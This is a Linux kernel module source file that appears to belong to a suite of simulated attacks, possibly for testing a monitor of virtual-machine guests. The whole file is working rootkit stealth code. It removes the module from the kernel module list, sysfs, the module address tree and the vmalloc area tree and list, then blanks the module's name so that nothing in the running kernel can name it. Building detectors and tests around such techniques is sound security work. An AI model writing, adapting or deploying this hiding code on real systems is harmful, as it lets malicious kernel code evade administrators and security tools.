// SPDX-License-Identifier: GPL-2.0-only
/*
 * Takes itself out of everything that could name it: the list, sysfs, the tree by which
 * the kernel finds the module of an address, and (where it is one tree) that of the
 * address space. It stays until the guest ends.
 */
#include <linux/kobject.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/vmalloc.h>

#include "attack.h"

static void leave_tree(struct latch_tree_root *root, struct mod_tree_node *node)
{
	static const struct latch_tree_ops unused;

	if (node->mod)
		latch_tree_erase(&node->node, root, &unused);
	node->mod = NULL;
}

static void leave_all_trees(struct latch_tree_root *root)
{
#ifdef mod_mem_type_is_init
	for_class_mod_mem_type(type, core) leave_tree(root, &THIS_MODULE->mem[type].mtn);
#else
	leave_tree(root, &THIS_MODULE->core_layout.mtn);
#endif
}

/* The area that holds this code: one tree and one list, until 6.8. */
static void leave_address_space(void)
{
	struct rb_root *root = (void *)attack_symbol("vmap_area_root");
	struct list_head *areas = (void *)attack_symbol("vmap_area_list");
	unsigned long here = (unsigned long)leave_address_space;
	struct vmap_area *area;

	if (!root || !areas)
		return;
	list_for_each_entry(area, areas, list)
	{
		if (here < area->va_start || here >= area->va_end)
			continue;
		list_del_rcu(&area->list);
		rb_erase(&area->rb_node, root);
		return;
	}
}

static int change(void)
{
	struct latch_tree_root *root = (void *)attack_symbol("mod_tree");

	if (!root)
		return -ENOENT;
	leave_address_space();
	leave_all_trees(root);
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	memset(THIS_MODULE->name, 0, sizeof(THIS_MODULE->name));
	return 0;
}

static void restore(void)
{
}

ATTACK(change, restore, "a module that leaves everything");
